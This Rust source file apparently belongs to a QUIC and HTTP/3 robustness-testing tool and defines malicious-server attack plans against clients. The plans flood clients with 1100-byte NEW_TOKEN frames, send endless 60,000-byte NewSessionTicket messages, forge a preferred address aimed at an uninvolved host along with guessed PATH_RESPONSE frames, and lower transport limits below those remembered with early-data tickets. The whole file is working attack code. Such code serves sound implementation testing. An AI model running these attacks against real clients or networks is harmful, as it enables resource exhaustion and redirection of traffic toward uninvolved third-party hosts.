//! Servers that attack their clients.

use std::collections::{BTreeMap, BTreeSet};
use std::net::{Ipv4Addr, SocketAddrV4};
use std::time::Duration;

use courser_base::{Side, Time};
use courser_crypto::Space;
use courser_wire::TransportParameters;
use courser_wire::frame::PathResponse;
use courser_wire::{ConnectionId, Crypto, Direction, Frame, NewToken, PreferredAddress, StreamId};

use crate::attack::{Attack, Expect, Pace, Plan, Victim};
use crate::attacker::Attacker;
use crate::connection::Connection;
use crate::hooks::{Honest, Hooks};
use crate::http;
use crate::{encode, forgetful_server_tls, server_tls};

/// Calls `burst` with each client whose handshake is complete, and forgets those that closed their connection.
fn for_each_client(attacker: &mut Attacker, mut burst: impl FnMut(u64, &mut Connection)) {
    for key in attacker.keys() {
        let Some(connection) = attacker.connection(key) else {
            continue;
        };
        if connection.is_closed() {
            attacker.forget(key);
        } else if connection.is_established() {
            burst(key, connection);
        }
    }
}

pub(super) const BIG_TOKENS: Plan = Plan {
    name: "big-tokens",
    labels: &["A13", "A37"],
    summary: "NEW_TOKEN frames of 1100 bytes at full speed, all different",
    victim: Victim::Client,
    expect: Expect::ANY,
    make: || Box::new(BigTokens),
};

struct BigTokens;

impl Attack for BigTokens {
    fn start(&mut self, attacker: &mut Attacker) {
        attacker.accept_with(server_tls(b"h3"), || Box::new(Honest));
    }

    fn turn(&mut self, attacker: &mut Attacker, now: Time) -> Pace {
        for_each_client(attacker, |_, connection| {
            for _ in 0..16 {
                let mut token = vec![0; 1100];
                connection.rng().fill(&mut token);
                let frame = encode(&Frame::NewToken(NewToken { token: &token }));
                connection.send_packet(now, Space::Application, vec![frame]);
            }
        });
        Pace::Now
    }
}

pub(super) const BIG_TICKETS: Plan = Plan {
    name: "big-tickets",
    labels: &["A69"],
    summary: "endless NewSessionTicket messages of 60 000 bytes",
    victim: Victim::Client,
    expect: Expect::ANY,
    make: || Box::new(BigTickets::default()),
};

/// Stores the next offset of the CRYPTO stream of each client.
#[derive(Default)]
struct BigTickets(BTreeMap<u64, u64>);

impl Attack for BigTickets {
    fn start(&mut self, attacker: &mut Attacker) {
        attacker.accept_with(server_tls(b"h3"), || Box::new(Honest));
    }

    fn turn(&mut self, attacker: &mut Attacker, now: Time) -> Pace {
        for_each_client(attacker, |key, connection| {
            // The tickets of TLS come first.
            let first = connection.crypto_len(Space::Application);
            let offset = self.0.entry(key).or_insert(first);
            for data in new_session_ticket().chunks(1000) {
                let frame = encode(&Frame::Crypto(Crypto {
                    offset: *offset,
                    data,
                }));
                *offset += data.len() as u64;
                connection.send_packet(now, Space::Application, vec![frame]);
            }
        });
        Pace::At(now + Duration::from_millis(1))
    }
}

/// Encodes a NewSessionTicket message with a ticket of 60 000 bytes (RFC 8446 §4.6.1).
fn new_session_ticket() -> Vec<u8> {
    const MESSAGE_TYPE: u8 = 4;
    const TICKET_LEN: u16 = 60_000;
    let mut body = Vec::new();
    body.extend_from_slice(&7200_u32.to_be_bytes());
    body.extend_from_slice(&7_u32.to_be_bytes());
    body.extend_from_slice(&[1, 0]);
    body.extend_from_slice(&TICKET_LEN.to_be_bytes());
    body.resize(body.len() + usize::from(TICKET_LEN), 0x55);
    body.extend_from_slice(&[0, 0]);
    let len = u32::try_from(body.len()).expect("the length fits in three bytes");
    let [_, high, middle, low] = len.to_be_bytes();
    let mut message = vec![MESSAGE_TYPE, high, middle, low];
    message.append(&mut body);
    message
}

pub(super) const FORGED_PREFERRED: Plan = Plan {
    name: "forged-preferred",
    labels: &["A57"],
    summary: "a preferred address at an uninvolved host, and PATH_RESPONSE frames with guessed data",
    victim: Victim::Client,
    expect: Expect::ANY,
    make: || Box::new(ForgedPreferred),
};

struct ForgedPreferred;

impl Attack for ForgedPreferred {
    fn start(&mut self, attacker: &mut Attacker) {
        attacker.accept_with(server_tls(b"h3"), || Box::new(PrefersUninvolvedHost));
    }

    fn turn(&mut self, attacker: &mut Attacker, now: Time) -> Pace {
        for_each_client(attacker, |_, connection| {
            for _ in 0..16 {
                let guess = |_| {
                    let mut data = [0; 8];
                    connection.rng().fill(&mut data);
                    encode(&Frame::PathResponse(PathResponse { data }))
                };
                let frames = (0..100).map(guess).collect();
                connection.send_packet(now, Space::Application, frames);
            }
        });
        Pace::Now
    }
}

/// Prefers an address in the network of the victim, whose host takes no part.
struct PrefersUninvolvedHost;

impl Hooks for PrefersUninvolvedHost {
    fn edit_parameters(&mut self, parameters: &mut TransportParameters) {
        let host = Ipv4Addr::new(10, 0, 0, 77);
        parameters.preferred_address = Some(PreferredAddress {
            ipv4: Some(SocketAddrV4::new(host, 9)),
            ipv6: None,
            id: ConnectionId::new(&[0x77; 8]).expect("eight bytes"),
            reset_token: [0x77; 16],
        });
    }
}

pub(super) const EARLY_LIMITS: Plan = Plan {
    name: "early-limits",
    labels: &["A62"],
    summary: "early data accepted by a server whose limits are below the remembered ones",
    victim: Victim::Client,
    expect: Expect::ANY,
    make: || Box::new(EarlyLimits::default()),
};

#[derive(Default)]
struct EarlyLimits {
    has_lowered: bool,
    /// Connections to which SETTINGS were sent.
    greeted: BTreeSet<u64>,
}

impl Attack for EarlyLimits {
    fn start(&mut self, attacker: &mut Attacker) {
        attacker.accept_with(forgetful_server_tls(b"h3"), || Box::new(Honest));
    }

    fn turn(&mut self, attacker: &mut Attacker, now: Time) -> Pace {
        for_each_client(attacker, |key, connection| {
            if self.greeted.insert(key) {
                // Clients remember the settings with their ticket.
                let mut control = vec![0x00];
                control.extend(http::frame(http::SETTINGS, &[]));
                let id = StreamId::new(Side::Server, Direction::Unidirectional, 0);
                connection.push_bytes(http::stream(id, 0, &control, false));
            }
        });
        // The first client has its ticket.
        if !self.has_lowered && attacker.counts().handshakes > 0 {
            self.has_lowered = true;
            attacker.replace_hooks(|| Box::new(LowerLimits));
        }
        Pace::At(now + Duration::from_millis(1))
    }
}

/// Grants the client less than its ticket remembers.
struct LowerLimits;

impl Hooks for LowerLimits {
    fn edit_parameters(&mut self, parameters: &mut TransportParameters) {
        parameters.initial_max_data = 1;
        parameters.initial_max_streams_bidi = 1;
    }
}
